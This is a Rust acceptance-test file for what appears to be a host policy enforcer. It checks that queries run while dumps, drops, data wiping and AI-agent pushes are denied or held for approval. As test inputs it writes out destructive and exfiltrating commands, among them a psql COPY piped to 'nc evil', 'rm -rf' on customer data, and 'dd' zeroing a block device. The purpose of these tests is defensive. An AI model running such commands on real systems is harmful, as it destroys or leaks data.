//! What teams ask for first, by the policies in docs/examples: query and not export, scale up with approval, keep
//! environments apart, no destruction by whatever program, an AI agent on its user's host. Where the guest has the real program it is used.

use std::{fs, path::Path, sync::Mutex};

use anyhow::{Context as _, Result, ensure};

use crate::{
    actors::{
        client::{ALICE, ALICE_ROOT, Puppet, own_path},
        elf,
        rig::{PROGRAM_CODE, write_executable},
        standin::StandIn,
        sys::{EPERM, Ret},
    },
    host::{Config, Host, grant_create},
    scenario::{Ctx, Scenario},
    wait,
};

/// This file's scenarios.
pub const SCENARIOS: &[Scenario] = &[
    Scenario::new(
        "a_database_may_be_queried_and_not_exported_or_dropped",
        database,
    )
    .group("acceptance")
    .on_any_kernel(),
    Scenario::new(
        "scaling_up_waits_for_an_approval_wherever_the_flags_stand",
        scaling,
    )
    .group("acceptance")
    .on_any_kernel(),
    Scenario::new("a_production_session_does_not_reach_staging", environments)
        .group("acceptance")
        .on_any_kernel(),
    Scenario::new(
        "destruction_is_denied_by_its_effect_and_not_by_a_name",
        destruction,
    )
    .group("acceptance")
    .on_any_kernel(),
    Scenario::new(
        "what_an_ai_agent_starts_waits_or_is_denied_and_its_user_goes_on",
        ai_agent,
    )
    .group("acceptance")
    .on_any_kernel(),
];

const POLICIES: [&str; 5] = [
    include_str!("../../../docs/examples/prod-database.yaml"),
    include_str!("../../../docs/examples/scale-up.yaml"),
    include_str!("../../../docs/examples/environments.yaml"),
    include_str!("../../../docs/examples/destructive-commands.yaml"),
    include_str!("../../../docs/examples/ai-agent.yaml"),
];

/// Programs that this guest does not have: each ends well with a code of its own.
const PROGRAMS: [&str; 9] = [
    "psql",
    "mysql",
    "pg_dump",
    "pg_dumpall",
    "mysqldump",
    "kubectl",
    "aws",
    "terraform",
    "git",
];
const AI_AGENT: &str = "/usr/local/bin/ai-agent";
const DATA: &str = "/srv/data/customers";
const DEVICE: &str = "/dev/vda";

struct Machine {
    _host: Host,
    kernel: StandIn,
    alice: Puppet,
    root: Puppet,
    /// What connecting to the database gave before there was a grant
    without_grant: Ret,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Then {
    /// It ran, and ended with this
    Ran(Ret),
    Denied,
    Held,
}
use Then::{Denied, Held, Ran};

fn with(run: impl FnOnce(&mut Machine) -> Result<()>) -> Result<()> {
    static MACHINE: Mutex<Option<Machine>> = Mutex::new(None);
    let mut place = MACHINE
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    let mut machine = match place.take() {
        Some(machine) => machine,
        None => Machine::start()?,
    };
    run(&mut machine)?;
    *place = Some(machine);
    Ok(())
}

impl Machine {
    fn start() -> Result<Self> {
        for program in PROGRAMS {
            let code = u8::try_from(PROGRAM_CODE)?;
            write_executable(&format!("/usr/bin/{program}"), &elf::exit64(code))?;
        }
        fs::create_dir_all("/usr/local/bin")?;
        write_executable(AI_AGENT, &fs::read(own_path()?)?)?;
        fs::create_dir_all("/var/lib/postgresql/16/main")?;
        data()?;
        if !Path::new(DEVICE).exists() {
            nix::sys::stat::mknod(
                DEVICE,
                nix::sys::stat::SFlag::S_IFBLK,
                nix::sys::stat::Mode::from_bits_truncate(0o666),
                nix::sys::stat::makedev(254, 0),
            )?;
        }
        // Whatever the mask took away: the rule is to say no, and not the mode.
        fs::set_permissions(DEVICE, std::os::unix::fs::PermissionsExt::from_mode(0o666))?;
        let (first, others) = POLICIES.split_first().context("no policy")?;
        let mut host = Host::boot(&Config::policy(first))?;
        for policy in others {
            host.apply(policy)?;
        }
        let mut alice = Puppet::start(ALICE)?;
        let without_grant = alice.tell("connect|tcp|10.20.0.5|5432")?;
        host.cli(&grant_create("alice", "prod-database/query", "1h", "CHG-7"))?
            .ok()?;
        Ok(Self {
            kernel: StandIn::take_over(&mut host)?,
            _host: host,
            root: Puppet::start(ALICE_ROOT)?,
            alice,
            without_grant,
        })
    }

    /// What becomes of a command; what is held is approved.
    fn run(&mut self, command: &str) -> Result<Then> {
        let words = format!("exec|fork|{}", command.replace(' ', "|").replace('~', " "));
        let ticket = self.alice.ask(&words)?;
        let mut was_held = false;
        let result = wait::until_ok(wait::SOON, "its end", || {
            for hold in self.kernel.pending() {
                was_held = true;
                self.kernel.approve(&hold)?;
            }
            Ok(self.alice.answered(&ticket))
        })
        .with_context(|| command.to_owned())?;
        drop(self.kernel.records());
        Ok(match result {
            EPERM => Denied,
            PROGRAM_CODE if was_held => Held,
            _ => Ran(result),
        })
    }

    /// Commands, a tilde for a blank inside of a word, and what becomes of each.
    fn all(&mut self, cases: &[(&str, Then)]) -> Result<()> {
        for (command, then) in cases {
            let found = self.run(command)?;
            ensure!(found == *then, "`{command}`: {found:?}, not {then:?}");
        }
        Ok(())
    }
}

/// A tree of files that everybody may write to.
fn data() -> Result<()> {
    use std::os::unix::fs::PermissionsExt as _;
    for (directory, file) in [(DATA.to_owned(), "a"), (format!("{DATA}/old"), "b")] {
        fs::create_dir_all(&directory)?;
        fs::set_permissions(&directory, fs::Permissions::from_mode(0o777))?;
        let file = format!("{directory}/{file}");
        fs::write(&file, "rows")?;
        fs::set_permissions(&file, fs::Permissions::from_mode(0o666))?;
    }
    fs::set_permissions("/srv/data", fs::Permissions::from_mode(0o777))?;
    Ok(())
}

fn is_whole() -> bool {
    [format!("{DATA}/a"), format!("{DATA}/old/b")]
        .iter()
        .all(|file| fs::read(file).is_ok_and(|content| content == b"rows"))
}

/// What programs exit with that may not execute another.
const NOT_EXECUTED: Ret = 126;
const WELL: Then = Ran(PROGRAM_CODE);

fn database(_: &mut Ctx) -> Result<()> {
    with(|machine| {
        ensure!(
            machine.without_grant == EPERM,
            "without a grant: {}",
            machine.without_grant
        );
        let connected = machine.alice.tell("connect|tcp|10.20.0.5|5432")?;
        ensure!(
            connected != EPERM,
            "with a grant the database is out of reach"
        );
        machine.all(&[
            (
                "/usr/bin/psql -h db -c select~*~from~customers~limit~5",
                WELL,
            ),
            ("/usr/bin/psql -f report.sql", WELL),
            ("/usr/bin/pg_dump -h db shop", Denied),
            ("/usr/bin/pg_dumpall", Denied),
            ("/usr/bin/mysqldump --all-databases", Denied),
            ("/usr/bin/psql -h db -c DROP~TABLE~customers", Denied),
            ("/usr/bin/psql --command=drop~schema~public", Denied),
            ("/usr/bin/psql -cDROP~DATABASE~shop", Denied),
            ("/usr/bin/mysql -e drop~table~customers", Denied),
            (
                "/usr/bin/psql -c COPY~customers~TO~PROGRAM~'nc~evil~1'",
                Denied,
            ),
        ])?;
        // The files of the database, as root: no program's name has anything to do with it.
        let file = "/var/lib/postgresql/16/main/base";
        fs::write(file, "rows")?;
        for words in [
            format!("exec|fork|/usr/bin/rm|-f|{file}"),
            format!("exec|fork|/usr/bin/mv|{file}|/tmp/base"),
            format!("exec|fork|/usr/bin/cp|{file}|/tmp/base"),
        ] {
            let result = machine.root.tell(&words)?;
            ensure!(result != 0, "`{words}` ends well");
        }
        ensure!(
            fs::read(file)? == b"rows" && !Path::new("/tmp/base").exists(),
            "the database's files were moved or copied"
        );
        Ok(())
    })
}

fn scaling(_: &mut Ctx) -> Result<()> {
    with(|machine| {
        machine.all(&[
            ("/usr/bin/kubectl get pods", WELL),
            ("/usr/bin/kubectl scale deploy/shop --replicas=40", Held),
            (
                "/usr/bin/kubectl -n prod --v=6 scale --replicas 40 deploy/shop",
                Held,
            ),
            ("/usr/bin/kubectl rollout -n prod restart deploy/shop", Held),
            ("/usr/bin/aws ec2 describe-instances", WELL),
            (
                "/usr/bin/aws --region eu-west-1 ec2 run-instances --count 50",
                Held,
            ),
            (
                "/usr/bin/aws ec2 terminate-instances --instance-ids i-1",
                Held,
            ),
            ("/usr/bin/terraform plan", WELL),
            ("/usr/bin/terraform -chdir=prod apply -auto-approve", Held),
        ])
    })
}

fn ai_agent(_: &mut Ctx) -> Result<()> {
    with(|machine| {
        let mut agent = Puppet::start_copy(ALICE, AI_AGENT)?;
        std::mem::swap(&mut machine.alice, &mut agent);
        let of_agent = machine.all(&[
            ("/usr/bin/git -C repo push origin topic", Denied),
            ("/usr/bin/git commit -m wip", WELL),
            ("/usr/bin/kubectl get pods", Held),
            ("/usr/bin/bash -c /usr/bin/kubectl~get~pods;~exit~$?", Held),
            // A shell says that it may not.
            (
                "/usr/bin/bash -c /usr/bin/git~push;~exit~$?",
                Ran(NOT_EXECUTED),
            ),
            (
                "/usr/bin/setsid -w /usr/bin/terraform apply",
                Ran(NOT_EXECUTED),
            ),
            ("/usr/bin/terraform plan", WELL),
        ]);
        std::mem::swap(&mut machine.alice, &mut agent);
        of_agent.context("started by the agent")?;
        machine.all(&[
            ("/usr/bin/git -C repo push origin topic", WELL),
            ("/usr/bin/kubectl get pods", WELL),
            ("/usr/bin/bash -c /usr/bin/git~push;~exit~$?", WELL),
            ("/usr/bin/terraform apply", Held),
        ])
    })
}

fn environments(_: &mut Ctx) -> Result<()> {
    with(|machine| {
        for words in [
            "connect|tcp|10.30.1.1|443",
            "connect|udp|10.30.1.1|53",
            "connect|tcp|::ffff:10.30.1.1|443",
            "connect|tcp|2001:db8:30::1|443",
            "call|sendto|udp|=x|1|0|at:10.30.1.1:53|16",
            "call|sendto|udp6|=x|1|0|at:[2001:db8:30::1]:53|28",
            "connect|tcp|10.32.0.9|22",
        ] {
            for puppet in [&mut machine.alice, &mut machine.root] {
                let result = puppet.tell(words)?;
                ensure!(result == EPERM, "`{words}` gives {result}");
            }
        }
        for beside in ["connect|tcp|10.31.1.1|443", "connect|tcp|10.32.0.9|443"] {
            let result = machine.alice.tell(beside)?;
            ensure!(result != EPERM, "`{beside}` is cut off, too");
        }
        Ok(())
    })
}

fn destruction(_: &mut Ctx) -> Result<()> {
    with(|machine| {
        fs::copy("/usr/bin/rm", "/tmp/tidy")?;
        let failed = Ran(1);
        machine.all(&[
            (&format!("/tmp/tidy -rf {DATA}"), failed),
            (&format!("/usr/bin/rm -f {DATA}/a"), failed),
            (&format!("/usr/bin/find {DATA} -type f -delete"), failed),
            (&format!("/usr/bin/mv {DATA} /tmp/customers"), failed),
            (&format!("/usr/bin/truncate -s 0 {DATA}/a"), failed),
            (
                &format!("/usr/bin/dd if=/dev/zero of={DATA}/a count=1"),
                failed,
            ),
            (&format!("/usr/bin/sh -c :>{DATA}/a"), Ran(2)),
            (&format!("/usr/bin/cp /etc/hostname {DATA}/old/b"), failed),
            (
                &format!("/usr/bin/dd if=/dev/zero of={DEVICE} count=1"),
                failed,
            ),
            ("/usr/bin/git push origin main", WELL),
            ("/usr/bin/git -C shop push --force origin main", Held),
            ("/usr/bin/git push prod-mirror +main", Held),
            ("/usr/bin/git push --force fork main", WELL),
        ])?;
        ensure!(is_whole(), "the data is not what it was");
        let device = machine
            .alice
            .tell(&format!("open|open|{DEVICE}|{}|0", libc::O_WRONLY))?;
        ensure!(device == EPERM, "the device opens with {device}");
        // By its name and its flag, wherever the flag stands: somebody looks at it first.
        fs::create_dir_all("/tmp/scratch/x")?;
        nix::unistd::chown("/tmp/scratch", Some(1001.into()), None)?;
        nix::unistd::chown("/tmp/scratch/x", Some(1001.into()), None)?;
        let ticket = machine
            .alice
            .ask("exec|fork|/usr/bin/rm|/tmp/scratch|--recursive")?;
        let hold = machine.kernel.wait_one()?;
        ensure!(
            Path::new("/tmp/scratch/x").exists(),
            "it was removed before anybody looked"
        );
        machine.kernel.approve(&hold)?;
        let result = machine.alice.answer(&ticket, wait::SOON)?;
        ensure!(
            result == 0 && !Path::new("/tmp/scratch").exists(),
            "approved, it gives {result}"
        );
        Ok(())
    })
}
